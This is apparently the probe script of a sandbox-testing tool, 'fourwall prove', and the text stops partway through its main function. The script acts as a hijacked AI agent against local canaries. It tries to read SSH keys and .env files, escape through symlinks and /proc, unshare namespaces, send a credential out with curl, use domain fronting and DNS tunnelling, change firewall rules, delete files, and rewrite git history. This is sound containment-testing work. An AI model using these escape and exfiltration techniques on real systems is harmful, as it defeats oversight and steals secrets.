"""
fourwall prove: the probe program.

It runs inside the box under test (or under any wrapper given to `fourwall prove --against`) and
attacks each wall the way a hijacked agent would, with only what an agent has: a shell, coreutils,
curl, python3 and raw syscalls through ctypes.

It reports facts, one JSON line per probe ({"id", "data"} or {"id", "skip"} or {"id", "error"}),
and judges nothing: the host side (src/prove/catalog.ts) decides PASS or HOLE and double-checks on
the host what it can (files that must not appear there, datagrams that must not arrive).

Every address it aims at is a canary that prove started on this machine: loopback services, or an
"outside" host in a network namespace prove made. Never a real address: if a wall leaks, the
packets really leave. Names it looks up end in .invalid.

usage: python3 probe.py CONFIG.json
"""
import base64
import ctypes
import errno
import glob
import json
import os
import socket
import ssl
import subprocess
import sys
import threading
import time
import urllib.parse
from concurrent.futures import ThreadPoolExecutor

with open(sys.argv[1]) as config_file:
    CFG = json.load(config_file)
TOKEN = CFG["token"]
# Slower boxes (the microVM under emulation) get longer timeouts: a slow answer is not a refusal.
SLOW = float(CFG.get("timeScale", 1))
TIMEOUT = 3.0 * SLOW
LIBC = ctypes.CDLL(None, use_errno=True)
PROBES = {}


def probe(probe_id):
    def register(fn):
        PROBES[probe_id] = fn
        return fn

    return register


class Skip(Exception):
    """The probe cannot run here (a missing tool, a canary that does not exist)."""


def err_name(number):
    return errno.errorcode.get(number, str(number))


def os_error(error):
    return err_name(error.errno) if error.errno else str(error)


def short(p):
    """A path as the table shows it: ~ for the fake home, ./ for the workdir."""
    for prefix, shown in ((CFG["workdir"] + "/", "./"), (CFG["home"] + "/", "~/")):
        if p.startswith(prefix):
            return shown + p[len(prefix):]
    return p


def run(argv, timeout=4.0, env=None, split=False):
    """(exit status, output) of a command, or (status, stdout, stderr) with split; status None
    when the command is missing or timed out."""
    try:
        done = subprocess.run(argv, capture_output=True, timeout=timeout * SLOW, env=env, stdin=subprocess.DEVNULL)
    except (FileNotFoundError, PermissionError):  # EACCES: found nowhere the probe may run it from
        return (None, "not installed", "") if split else (None, "not installed")
    except subprocess.TimeoutExpired:
        why = f"timed out after {timeout * SLOW:g} s"
        return (None, why, "") if split else (None, why)
    out, err = (done.stdout.decode("utf-8", "replace"), done.stderr.decode("utf-8", "replace"))
    return (done.returncode, out, err) if split else (done.returncode, (out + err).strip())


def last_line(text):
    lines = [line for line in text.splitlines() if line.strip()]
    return lines[-1][:120] if lines else ""


def reason_line(text):
    """The line of a tool's complaint that says why (nft follows it with a line of carets)."""
    lines = [line.strip() for line in text.splitlines() if line.strip()]
    for line in lines:
        if "not permitted" in line or "denied" in line.lower():
            return line[:120]
    return lines[0][:120] if lines else ""


def syscall(name, *args):
    """(return value, errno name) of a raw syscall; the number comes from fourwall's own table."""
    number = CFG["isolation"]["syscalls"].get(name)
    if number is None:
        raise Skip(f"{name} has no number on this architecture")
    result = LIBC.syscall(ctypes.c_long(number), *[ctypes.c_long(a) for a in args])
    return result, (None if result >= 0 else err_name(ctypes.get_errno()))


def in_child(fn):
    """Runs fn in a forked child (so a namespace change cannot touch the probe); its exit status."""
    pid = os.fork()
    if pid == 0:
        try:
            os._exit(fn())
        except BaseException:
            os._exit(255)
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


# ---------------------------------------------------------------------------------------------
# isolation


def status_field(name):
    with open("/proc/self/status") as status:
        for line in status:
            if line.startswith(name + ":"):
                return line.split(":", 1)[1].strip()
    return None


@probe("isolation.capabilities")
def capabilities():
    return {"CapEff": status_field("CapEff"), "CapPrm": status_field("CapPrm")}


@probe("isolation.no-new-privs")
def no_new_privs():
    value = status_field("NoNewPrivs")
    if value is None:
        # gVisor's /proc/self/status has no NoNewPrivs line: ask the kernel (PR_GET_NO_NEW_PRIVS = 39)
        value = str(ctypes.CDLL(None, use_errno=True).prctl(39, 0, 0, 0, 0))
    return {"NoNewPrivs": value}


@probe("isolation.seccomp")
def seccomp():
    return {"Seccomp": status_field("Seccomp")}


@probe("isolation.host-pids")
def host_pids():
    marker = CFG["isolation"]["hostProcessMarker"].encode()
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    seen = []
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
                if marker in cmdline.read():
                    seen.append(pid)
        except OSError:
            pass
    if seen:
        return {"reached": True, "detail": f"a host process is visible (pid {seen[0]} of {len(pids)})"}
    return {"reached": False, "detail": f"{len(pids)} processes visible, none of the host's"}


CLONE_FLAGS = {"user": 0x10000000, "network": 0x40000000, "mount": 0x00020000}


@probe("isolation.new-namespaces")
def new_namespaces():
    made, refused = [], []
    for what, flag in CLONE_FLAGS.items():
        status = in_child(lambda flag=flag: 0 if LIBC.unshare(ctypes.c_int(flag)) == 0 else ctypes.get_errno())
        (made if status == 0 else refused).append(f"{what}: {'created' if status == 0 else err_name(status)}")
    return {"reached": bool(made), "detail": "; ".join(made or refused)}


PTRACE_ATTACH = 16


@probe("isolation.ptrace")
def ptrace():
    child = os.fork()
    if child == 0:
        time.sleep(10)
        os._exit(0)
    try:
        result = LIBC.ptrace(ctypes.c_long(PTRACE_ATTACH), ctypes.c_long(child), None, None)
        error = ctypes.get_errno()
    finally:
        os.kill(child, 9)
        os.waitpid(child, 0)
    if result == 0:
        return {"reached": True, "detail": "ptrace allowed: attached to a process of its own"}
    return {"reached": False, "detail": f"ptrace(PTRACE_ATTACH): {err_name(error)}"}


MS_BIND = 4096
MNT_DETACH = 2


@probe("isolation.mount")
def mount():
    # A bind mount from a source that does not exist: a caller allowed to mount gets ENOENT (the
    # kernel got as far as the source), one that is not gets EPERM. Nothing is ever mounted.
    target = CFG["proveDir"].encode()
    source = f"/nonexistent-fourwall-{TOKEN}".encode()
    result = LIBC.mount(source, target, None, ctypes.c_ulong(MS_BIND), None)
    error = ctypes.get_errno()
    if result == 0:
        LIBC.umount2(target, MNT_DETACH)
        return {"reached": True, "detail": "mount(2) succeeded"}
    if error == errno.EPERM:
        return {"reached": False, "detail": "mount(2): EPERM"}
    return {"reached": True, "detail": f"mount(2) got past the permission check ({err_name(error)})"}


# Arguments that make each call fail harmlessly once the kernel looks at them (a NULL attribute,
# fd -1), so "reached the kernel" shows as EFAULT/EINVAL/EBADF and "refused" as EPERM/ENOSYS.
KERNEL_CALLS = {
    "bpf": (5, 0, 0),
    "perf_event_open": (0, 0, -1, -1, 0),
    "finit_module": (-1, 0, 0),
    "io_uring_setup": (1, 0),
}
REFUSED = {"EPERM", "EACCES", "ENOSYS"}


@probe("isolation.kernel-syscalls")
def kernel_syscalls():
    seen = {}
    for name, args in KERNEL_CALLS.items():
        try:
            result, error = syscall(name, *args)
        except Skip as why:
            seen[name] = str(why)
            continue
        if result >= 0:
            os.close(result)
        seen[name] = error or "succeeded"
    reached = [name for name, outcome in seen.items() if outcome not in REFUSED and "no number" not in outcome]
    if reached:
        detail = "reached the kernel: " + ", ".join(f"{name} ({seen[name]})" for name in reached)
    else:
        detail = ", ".join(f"{name} {outcome}" for name, outcome in seen.items())
    return {"reached": bool(reached), "reachedCalls": reached, "detail": detail}


@probe("isolation.runtime")
def runtime():
    with open("/proc/1/stat") as stat:
        text = stat.read()
    comm = text[text.index("(") + 1 : text.rindex(")")]
    start = text[text.rindex(")") + 2 :].split()[19]
    with open("/proc/version") as version:
        kernel = version.read().strip()[:100]
    return {"pid1": comm, "pid1Start": start, "kernel": kernel}


LIMIT_NAMES = {
    "Max processes": "nproc",
    "Max data size": "data",
    "Max file size": "fsize",
    "Max open files": "nofile",
    "Max core file size": "core",
    "Max cpu time": "cpu",
}


@probe("isolation.rlimits")
def rlimits():
    limits = {}
    try:
        with open("/proc/self/limits") as table:
            for line in table:
                for label, name in LIMIT_NAMES.items():
                    if line.startswith(label):
                        soft, hard = line[len(label) :].split()[:2]
                        limits[name] = [soft, hard]
    except OSError:
        # no /proc/self/limits (gVisor): ask getrlimit directly
        import resource

        shown = lambda v: "unlimited" if v == resource.RLIM_INFINITY else str(v)
        for name, res in (("nproc", "RLIMIT_NPROC"), ("data", "RLIMIT_DATA"), ("fsize", "RLIMIT_FSIZE"),
                          ("nofile", "RLIMIT_NOFILE"), ("core", "RLIMIT_CORE"), ("cpu", "RLIMIT_CPU")):
            soft, hard = resource.getrlimit(getattr(resource, res))
            limits[name] = [shown(soft), shown(hard)]
    return {"limits": limits}


@probe("isolation.uid")
def uid():
    try:
        with open("/etc/shadow", "rb") as shadow:
            shadow.read(1)
        shadow_result = "read"
    except OSError as error:
        shadow_result = os_error(error)
    return {"uid": os.getuid(), "euid": os.geteuid(), "shadow": shadow_result}


# ---------------------------------------------------------------------------------------------
# filesystem


def read_for_token(paths):
    """(paths whose content carries the token, what happened to the others)."""
    leaked, others = [], []
    for p in paths:
        try:
            with open(p, "rb") as secret:
                data = secret.read(65536)
        except OSError as error:
            others.append(f"{short(p)}: {os_error(error)}")
            continue
        if TOKEN.encode() in data:
            leaked.append(short(p))
        else:
            others.append(f"{short(p)}: {'empty' if not data else 'no secret in it'}")
    return leaked, others


def read_probe(paths):
    leaked, others = read_for_token(paths)
    if leaked:
        return {"reached": True, "detail": "read " + ", ".join(leaked)}
    outcomes = sorted(set(o.split(": ", 1)[1] for o in others))
    if len(outcomes) == 1:
        return {"reached": False, "detail": f"{len(others)} of {len(paths)}: {outcomes[0]}"}
    return {"reached": False, "detail": "; ".join(others)}


@probe("filesystem.read-secrets")
def read_secrets():
    return read_probe(CFG["filesystem"]["secretFiles"])


@probe("filesystem.read-dotenv")
def read_dotenv():
    return read_probe([CFG["filesystem"]["dotenv"]])


def attempt_writes(attempt):
    outcomes = []
    for mode, paths in (("w", attempt["create"]), ("a", attempt["append"])):
        for p in paths:
            if attempt.get("mkdirs"):
                try:
                    os.makedirs(os.path.dirname(os.path.abspath(p)), exist_ok=True)
                except OSError:
                    pass  # the write below says why
            try:
                with open(p, mode) as target:
                    target.write(f"written by fourwall prove {TOKEN}\n")
                outcomes.append(f"{short(os.path.abspath(p))}: written")
            except OSError as error:
                outcomes.append(f"{short(os.path.abspath(p))}: {os_error(error)}")
    return {"attempts": outcomes, "detail": "; ".join(outcomes)}


def write_probe(probe_id):
    PROBES[probe_id] = lambda: attempt_writes(CFG["filesystem"]["writes"][probe_id])


for write_id in CFG["filesystem"]["writes"]:
    if write_id != "filesystem.dotdot-escape":
        write_probe(write_id)


@probe("filesystem.dotdot-escape")
def dotdot_escape():
    writes = attempt_writes(CFG["filesystem"]["writes"]["filesystem.dotdot-escape"])
    leaked, _ = read_for_token(["../.ssh/id_ed25519", "../../home/.ssh/id_ed25519"])
    writes["reached"] = bool(leaked)
    if leaked:
        writes["detail"] = "read the key through ..; " + writes["detail"]
    return writes


@probe("filesystem.symlink-escape")
def symlink_escape():
    outcomes, leaked = [], False
    for link in CFG["filesystem"]["symlinks"]:
        try:
            if os.path.lexists(link["link"]):
                os.unlink(link["link"])
            os.symlink(link["to"], link["link"])
        except OSError as error:
            outcomes.append(f"symlink: {os_error(error)}")
            continue
        try:
            if link["mode"] == "read":
                with open(link["link"], "rb") as through:
                    found = TOKEN.encode() in through.read()
                leaked = leaked or found
                outcomes.append(f"read through a link to {short(link['to'])}: {'the secret' if found else 'no secret'}")
            else:
                with open(link["link"], "a") as through:
                    through.write(f"# fourwall prove {TOKEN}\n")
                outcomes.append(f"append through a link to {short(link['to'])}: written")
        except OSError as error:
            outcomes.append(f"through a link to {short(link['to'])}: {os_error(error)}")
    return {"reached": leaked, "detail": "; ".join(outcomes)}


@probe("filesystem.proc-root")
def proc_root():
    key = CFG["filesystem"]["secretFiles"][0]
    paths = [f"/proc/self/root{key}", f"/proc/1/root{key}", "/proc/1/cwd/../.ssh/id_ed25519"]
    paths += [f"/proc/{pid}/root{key}" for pid in os.listdir("/proc") if pid.isdigit()]
    leaked, others = read_for_token(paths)
    if leaked:
        return {"reached": True, "detail": "read the key through " + leaked[0]}
    return {"reached": False, "detail": "; ".join(sorted(set(o.split(": ", 1)[1] for o in others)))}


@probe("filesystem.environment")
def environment():
    planted = CFG["filesystem"]["plantedEnv"]
    secret = f"FOURWALL-PROVE-SECRET-{TOKEN}"  # the value prove planted, under whatever name
    leaked = [name for name in planted if name in os.environ]
    leaked += [name for name, value in os.environ.items() if secret in value and name not in leaked]
    if leaked:
        return {"reached": True, "detail": "sees " + ", ".join(sorted(leaked))}
    return {"reached": False, "detail": f"none of {len(planted)} planted variables"}


def unix_reach(address, shown):
    try:
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    except OSError as error:  # some sandboxes refuse unix sockets altogether
        return {"reached": False, "detail": f"socket(AF_UNIX): {os_error(error)}"}
    sock.settimeout(TIMEOUT)
    try:
        sock.connect(address)
        data = sock.recv(256)
    except OSError as error:
        return {"reached": False, "detail": f"connect {shown}: {os_error(error)}"}
    finally:
        sock.close()
    if TOKEN.encode() in data:
        return {"reached": True, "detail": f"connected to {shown} and got its answer"}
    return {"reached": True, "detail": f"connected to {shown}"}


@probe("filesystem.host-socket")
def host_socket():
    path = CFG["filesystem"]["socketPath"]
    if not path:
        raise Skip("no host socket canary")
    return unix_reach(path, path)


@probe("filesystem.abstract-socket")
def abstract_socket():
    name = CFG["filesystem"]["abstractName"]
    if not name:
        raise Skip("no abstract socket canary")
    return unix_reach("\0" + name, "@" + name)


# ---------------------------------------------------------------------------------------------
# egress

EGRESS = CFG.get("egress") or {}


def proxy_url():
    for name in ("https_proxy", "HTTPS_PROXY", "http_proxy", "HTTP_PROXY"):
        if os.environ.get(name):
            return os.environ[name]
    return None


def need_egress_canary(key):
    if not EGRESS.get(key):
        raise Skip("its canary is not running")
    return EGRESS[key]


def curl(url, via_proxy=True, extra=()):
    """What an agent's curl gets, through the proxy from the environment (when there is one)."""
    env = {k: v for k, v in os.environ.items() if k.lower() != "no_proxy"}
    proxy = proxy_url()
    argv = ["curl", "-sS", "-i", "-m", f"{3 * SLOW:g}", "-w", "\\n%{http_connect} %{http_code}"]
    argv += ["-x", proxy] if via_proxy and proxy else ["--noproxy", "*"]
    status, out, err = run(argv + list(extra) + [url], timeout=5, env=env, split=True)
    if status is None:
        raise Skip(f"curl {out}")
    lines = out.splitlines()
    connect_code, http_code = ((lines[-1].split() if lines else []) + ["000", "000"])[:2]
    denial = next(
        (line.split(":", 1)[1].strip() for line in lines if line.lower().startswith(("x-fourwall-denied:", "x-proxy-error:"))),
        None,
    )
    reached = TOKEN in out
    code = http_code if http_code != "000" else connect_code
    if reached:
        detail = f"{code}, the canary answered"
    elif code != "000":
        detail = code + (f" {denial}" if denial else "")
    else:
        detail = last_line(err) or f"curl exit {status}"
    return {"reached": reached, "code": code, "denial": denial, "viaProxy": bool(via_proxy and proxy), "detail": detail}


def http_url(host, port, path):
    return f"http://{host}:{port}{path}"


@probe("egress.listed-http")
def listed_http():
    return curl(http_url(EGRESS["listedHost"], need_egress_canary("httpPort"), "/listed-http"))


@probe("egress.listed-https")
def listed_https():
    port = need_egress_canary("httpsPort")
    return curl(f"https://{EGRESS['listedHost']}:{port}/listed-https", extra=["--cacert", EGRESS["ca"]])


@probe("egress.unlisted-http")
def unlisted_http():
    return curl(http_url(EGRESS["unlistedHost"], need_egress_canary("httpPort"), "/unlisted"))


@probe("egress.unlisted-https")
def unlisted_https():
    port = need_egress_canary("httpsPort")
    return curl(f"https://{EGRESS['unlistedHost']}:{port}/unlisted", extra=["--cacert", EGRESS["ca"]])


@probe("egress.ip-via-proxy")
def ip_via_proxy():
    return curl(http_url("127.0.0.1", need_egress_canary("loopbackPort"), "/raw-ip"))


@probe("egress.internal-guard")
def internal_guard():
    port = need_egress_canary("loopbackPort")
    if isinstance(EGRESS["guardHost"], dict):
        raise Skip(EGRESS["guardHost"]["skip"])
    return curl(http_url(EGRESS["guardHost"], port, "/guard"))


def proxy_socket():
    """A connection to the proxy from the environment, and the header that authenticates to it."""
    proxy = proxy_url()
    if not proxy:
        raise Skip("no proxy in the environment: there is no proxy to trick (the direct probes cover this box)")
    parts = urllib.parse.urlsplit(proxy)
    auth = ""
    if parts.username:
        user = urllib.parse.unquote(parts.username)
        password = urllib.parse.unquote(parts.password or "")
        auth = "Proxy-Authorization: Basic " + base64.b64encode(f"{user}:{password}".encode()).decode() + "\r\n"
    sock = socket.create_connection((parts.hostname, parts.port or 80), timeout=TIMEOUT)
    return sock, auth


def read_head(sock):
    data = b""
    while b"\r\n\r\n" not in data and len(data) < 65536:
        chunk = sock.recv(4096)
        if not chunk:
            break
        data += chunk
    return data.decode("latin-1")


def read_all(sock):
    data = b""
    try:
        while len(data) < 65536:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
    except (OSError, ssl.SSLError):
        pass
    return data.decode("latin-1")


def status_of(head):
    parts = head.split(" ", 2)
    return parts[1] if len(parts) > 1 else "no answer"


@probe("egress.sni-mismatch")
def sni_mismatch():
    # Domain fronting: a tunnel opened for the listed name, a TLS hello naming an unlisted one.
    port = need_egress_canary("httpsPort")
    listed, unlisted = EGRESS["listedHost"], EGRESS["unlistedHost"]
    sock, auth = proxy_socket()
    try:
        sock.sendall(f"CONNECT {listed}:{port} HTTP/1.1\r\nHost: {listed}:{port}\r\n{auth}\r\n".encode())
        head = read_head(sock)
        if status_of(head) != "200":
            return {"reached": False, "detail": f"the tunnel itself was refused ({status_of(head)})"}
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        try:
            tls = context.wrap_socket(sock, server_hostname=unlisted)
        except (OSError, ssl.SSLError) as error:
            return {"reached": False, "detail": f"TLS cut off when the hello named {unlisted} ({type(error).__name__})"}
        tls.sendall(f"GET /sni HTTP/1.1\r\nHost: {unlisted}\r\nConnection: close\r\n\r\n".encode())
        answer = read_all(tls)
    finally:
        sock.close()
    if TOKEN in answer:
        return {"reached": True, "detail": f"the canary answered a hello naming {unlisted}"}
    return {"reached": False, "detail": f"no answer through the tunnel ({status_of(answer) if answer else 'closed'})"}


@probe("egress.host-mismatch")
def host_mismatch():
    # The request line names the listed host; the Host header, which the origin routes by, does not.
    port = need_egress_canary("httpPort")
    listed, unlisted = EGRESS["listedHost"], EGRESS["unlistedHost"]
    sock, auth = proxy_socket()
    try:
        sock.sendall(
            f"GET http://{listed}:{port}/host-mismatch HTTP/1.1\r\nHost: {unlisted}\r\nConnection: close\r\n{auth}\r\n".encode()
        )
        answer = read_all(sock)
    finally:
        sock.close()
    if TOKEN in answer and f"host={unlisted}" in answer:
        return {"reached": True, "detail": f"the canary answered a request for Host: {unlisted}"}
    if TOKEN in answer:
        seen = answer.split("host=", 1)[1].split()[0] if "host=" in answer else "?"
        return {"reached": False, "detail": f"{status_of(answer)}, but the origin saw Host: {seen}"}
    if not answer:
        return {"reached": False, "detail": "closed without an answer"}
    denial = next((line.split(":", 1)[1].strip() for line in answer.split("\r\n") if line.lower().startswith(("x-fourwall-denied:", "x-proxy-error:"))), "")
    return {"reached": False, "detail": f"{status_of(answer)} {denial}".strip()}



def credential_places():
    """Where a credential could sit in the box: every visible process's environment and command line, then files."""
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            for part in ("environ", "cmdline"):
                yield f"/proc/{entry}/{part}"
    seen = 0
    mine = os.path.realpath(CFG["proveDir"])  # prove's own files (the config names the marker)
    for top in ("/run/fourwall", os.environ.get("HOME", "/nonexistent"), "/tmp", CFG["workdir"]):
        for root, dirs, files in os.walk(top):
            if os.path.realpath(root).startswith(mine):
                dirs[:] = []
                continue
            dirs[:] = [d for d in dirs if d not in (".git", "node_modules")]
            for name in files:
                seen += 1
                if seen > 5000:
                    return
                yield os.path.join(root, name)


@probe("egress.credential-hidden")
def credential_hidden():
    # prove binds a canary key with --secret; the box must hold a sentinel, the real value nowhere
    cred = (EGRESS or {}).get("credential") or {}
    marker = cred.get("marker")
    if not marker:
        raise Skip("no credential canary")
    found = [f"${name}" for name, value in os.environ.items() if marker in value]
    for place in credential_places():
        try:
            with open(place, "rb") as f:
                if marker.encode() in f.read(1 << 20):
                    found.append(short(place))
        except OSError:
            pass
    if found:
        return {"reached": True, "detail": "the real key in " + ", ".join(sorted(set(found))[:4])}
    sentinel = bool(os.environ.get(cred["env"]))
    held = "a sentinel in $" + cred["env"] if sentinel else "no key in the environment"
    return {"reached": False, "detail": held, "sentinel": sentinel}


@probe("egress.credential-exfiltration")
def credential_exfiltration():
    cred = (EGRESS or {}).get("credential") or {}
    value = os.environ.get(cred.get("env", ""), "")
    if not value:
        raise Skip("the box holds no credential variable")
    port = need_egress_canary("httpPort")
    out = curl(http_url(EGRESS["listedHost"], port, "/credential"), extra=["-H", f"Authorization: Bearer {value}"])
    if not out["reached"] and out.get("denial") == "credential-exfiltration":
        out["detail"] = f"{out['code']} credential-exfiltration"
    return out


def tcp_reach(address, port, shown):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    sock = socket.socket(family, socket.SOCK_STREAM)
    sock.settimeout(TIMEOUT)
    try:
        sock.connect((address, port))
        sock.sendall(f"GET /direct HTTP/1.0\r\nHost: {shown}\r\n\r\n".encode())
        answer = read_all(sock)
    except OSError as error:
        return False, f"{shown}: {os_error(error) if not isinstance(error, socket.timeout) else 'timed out'}"
    finally:
        sock.close()
    return TOKEN in answer, f"{shown}: {'the canary answered' if TOKEN in answer else 'connected'}"


@probe("egress.host-loopback")
def host_loopback():
    outcomes = [
        tcp_reach("127.0.0.1", need_egress_canary("loopbackPort"), f"127.0.0.1:{EGRESS['loopbackPort']}"),
        tcp_reach("127.0.0.1", EGRESS["httpPort"], f"127.0.0.1:{EGRESS['httpPort']} (the listed canary, without the proxy)"),
    ]
    return {"reached": any(r for r, _ in outcomes), "detail": "; ".join(d for _, d in outcomes)}


@probe("egress.ipv6-loopback")
def ipv6_loopback():
    port = need_egress_canary("loopback6Port")
    reached, detail = tcp_reach("::1", port, f"[::1]:{port}")
    return {"reached": reached, "detail": detail}


@probe("egress.udp")
def udp():
    port = need_egress_canary("udpPort")
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        sock.sendto(f"fourwall prove {TOKEN}".encode(), ("127.0.0.1", port))
        detail = f"sent to 127.0.0.1:{port}"
    except OSError as error:
        detail = f"sendto 127.0.0.1:{port}: {os_error(error)}"
    finally:
        sock.close()
    return {"detail": detail}


GAI_ERRORS = {socket.EAI_NONAME: "EAI_NONAME", socket.EAI_AGAIN: "EAI_AGAIN", socket.EAI_FAIL: "EAI_FAIL"}
ANSWERED = {"address", "EAI_NONAME", "EAI_NODATA"}


@probe("egress.dns-lookup")
def dns_lookup():
    name = f"{TOKEN}.lookup.fourwall.invalid"
    outcome = {}

    def lookup():
        try:
            socket.getaddrinfo(name, 80)
            outcome["gai"] = "address"
        except socket.gaierror as error:
            outcome["gai"] = GAI_ERRORS.get(error.errno, "EAI_NODATA" if error.errno == -5 else f"error {error.errno}")

    started = time.monotonic()
    worker = threading.Thread(target=lookup, daemon=True)
    worker.start()
    worker.join(2.5)
    elapsed = int((time.monotonic() - started) * 1000)
    status, out = run(["getent", "hosts", name], timeout=3)
    getent = "not installed" if out == "not installed" else f"getent exit {status}"
    if "gai" not in outcome:
        return {"reached": None, "detail": f"no answer within 2.5 s (a query may have left); {getent}"}
    answered = outcome["gai"] in ANSWERED
    what = "a resolver answered" if answered else "no resolver reachable"
    return {"reached": answered, "detail": f"getaddrinfo: {outcome['gai']} in {elapsed} ms ({what}); {getent}"}


def outside():
    host = CFG["outside"]
    if "skip" in host:
        raise Skip(host["skip"])
    return host


def dns_query(name):
    header = os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return header + labels + b"\x00\x00\x01\x00\x01"


@probe("egress.dns-tunnel")
def dns_tunnel():
    host = outside()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        sock.sendto(dns_query(f"{TOKEN}.tunnel.fourwall.invalid"), (host["ip"], host["dnsPort"]))
        detail = f"query sent to {host['ip']}:{host['dnsPort']}"
    except OSError as error:
        detail = f"sendto {host['ip']}:{host['dnsPort']}: {os_error(error)}"
    finally:
        sock.close()
    return {"detail": detail}


@probe("egress.outside-host")
def outside_host():
    host = outside()
    reached, detail = tcp_reach(host["ip"], host["tcpPort"], f"{host['ip']}:{host['tcpPort']}")
    return {"reached": reached, "detail": detail}


# A cluster's egress wall, judged by what the pod sees alone (`fourwall k8s prove`): the proxy's
# answers (403 for an unlisted name and for the metadata address, which it refuses by name and
# address class before connecting) and whether a connection without the proxy gets anywhere.
CLUSTER = CFG.get("cluster") or {}


def need_cluster(key):
    if not CLUSTER.get(key):
        raise Skip(f"no {key} target (k8s prove --probe-listed URL names a listed origin)")
    return CLUSTER[key]


@probe("egress.cluster-listed")
def cluster_listed():
    return curl(need_cluster("listed"))


@probe("egress.cluster-unlisted")
def cluster_unlisted():
    return curl(need_cluster("unlisted"))


@probe("egress.cluster-metadata")
def cluster_metadata():
    return curl(need_cluster("metadata"))


@probe("egress.cluster-direct")
def cluster_direct():
    target = need_cluster("direct")
    shown = f"{target['host']}:{target['port']}"
    sock = socket.socket(socket.AF_INET6 if ":" in target["host"] else socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(TIMEOUT)
    try:
        sock.connect((target["host"], target["port"]))
    except OSError as error:
        return {"reached": False, "detail": f"{shown}: {os_error(error) if not isinstance(error, socket.timeout) else 'timed out'}"}
    finally:
        sock.close()
    return {"reached": True, "detail": f"connected to {shown} without the proxy"}


@probe("egress.firewall")
def firewall():
    tag = TOKEN[:8]
    route = f"198.19.{int(tag[:2], 16)}.{int(tag[2:4], 16)}/32"  # benchmark range, this run's own
    # Each change is made under a name of this run's own and undone at once: against a leaky
    # wrapper running as root, these commands reach the host's real network stack.
    attempts = [
        ("ip link add", ["ip", "link", "add", f"fwp{tag}a", "type", "veth", "peer", "name", f"fwp{tag}b"], ["ip", "link", "del", f"fwp{tag}a"]),
        ("ip route add", ["ip", "route", "add", route, "dev", "lo"], ["ip", "route", "del", route, "dev", "lo"]),
        ("nft add table", ["nft", "add", "table", "inet", f"fwprobe_{tag}"], ["nft", "delete", "table", "inet", f"fwprobe_{tag}"]),
        ("iptables -N", ["iptables", "-N", f"FWPROBE{tag}"], ["iptables", "-X", f"FWPROBE{tag}"]),
    ]
    changed, outcomes, tried = [], [], 0
    for what, do, undo in attempts:
        status, out = run(do)
        if out == "not installed":
            continue
        tried += 1
        if status == 0:
            changed.append(what)
            run(undo)
        outcomes.append(f"{what}: {'done' if status == 0 else reason_line(out) or status}")
    if tried == 0:
        raise Skip("none of ip, nft, iptables is installed")
    return {"reached": bool(changed), "detail": "; ".join(outcomes)}


# ---------------------------------------------------------------------------------------------


def run_one(probe_id):
    fn = PROBES.get(probe_id)
    if fn is None:
        return {"id": probe_id, "skip": "this probe program does not know it"}
    try:
        return {"id": probe_id, "data": fn()}
    except Skip as why:
        return {"id": probe_id, "skip": str(why)}
    except Exception as error:  # a probe that breaks is reported, never silently passed
        return {"id": probe_id, "error": f"{type(error).__name__}: {error}"[:300]}



# ---------------------------------------------------------------------------------------------
# approval gate


@probe("gate.delete-asks")
def gate_delete():
    # Straight unlink(2), no hook, no asking: a hijacked agent's way. The host decides the rest.
    path = CFG["gate"]["precious"]
    try:
        os.unlink(path)
        return {"unlink": "ok", "existsAfter": os.path.exists(path)}
    except OSError as error:
        return {"unlink": os_error(error)}


@probe("gate.setuid-apply")
def gate_setuid_apply():
    # A new file made setuid/setgid: new files land without asking, so the host must mask the bits.
    path = CFG["gate"]["setuid"]
    try:
        with open(path, "w") as f:
            f.write("#!/bin/sh\nid\n")
        os.chmod(path, 0o6755)
        return {"chmod": "ok", "modeInBox": oct(os.stat(path).st_mode & 0o7777)}
    except OSError as error:
        return {"chmod": os_error(error)}


@probe("gate.layer-unreachable")
def gate_layer_unreachable():
    # A hijacked agent looks for its own layer (or another box's) on the host: the overlay's
    # upperdir in mountinfo, then the places layers live or used to live. Listing any is a hole.
    upperdir = None
    workdir = os.path.realpath(CFG["workdir"])
    with open("/proc/self/mountinfo") as f:
        for line in f:
            left, _, right = line.partition(" - ")
            fields = left.split()
            if len(fields) > 4 and fields[4] == workdir and right.startswith("overlay "):
                for opt in right.split()[-1].split(","):
                    if opt.startswith("upperdir="):
                        upperdir = opt[len("upperdir="):]
    candidates = ["/run/fourwall/layers"]
    candidates += sorted(glob.glob("/tmp/fourwall-changes-*"))
    candidates += sorted(glob.glob("/home/*/.local/state/fourwall/layers"))
    candidates += sorted(glob.glob("/run/user/*/fourwall/layers"))
    if upperdir and upperdir.startswith("/"):
        candidates += [upperdir, os.path.dirname(upperdir)]
    reached = []
    for path in candidates:
        try:
            entries = os.listdir(path)
        except OSError:
            continue
        # an empty directory (the box's own /run, a tmpfs hiding the layers) reveals nothing
        if entries:
            reached.append(path)
    return {"upperdir": upperdir, "reached": reached}


@probe("gate.denied-delete-survives")
def gate_denied_delete_survives():
    # The same attempt as gate.delete-asks, judged from the host: does the file survive a "no"?
    return {"judged": "on the host"}

@probe("gate.history-rewrite")
def gate_history_rewrite():
    # What `git reset --hard <first> && git reflog expire` leaves, written straight to .git (no git
    # needed in the box): the branch back at its first commit, the reflogs emptied.
    history = CFG["gate"]["history"]
    out = {}
    try:
        with open(history["ref"], "w") as f:
            f.write(history["first"] + "\n")
        out["ref"] = "ok"
    except OSError as error:
        out["ref"] = os_error(error)
    for path in history["reflogs"]:
        try:
            os.truncate(path, 0)
            out[short(path)] = "truncated"
        except OSError as error:
            out[short(path)] = os_error(error)
    return out


def main():
    os.chdir(CFG["workdir"])
    try:
        out = open(CFG["out"], "a") if CFG.get("out") else sys.stdout
    except OSError as error:
        # The results file lives in the workdir: a box whose workdir is not writable reports nothing.
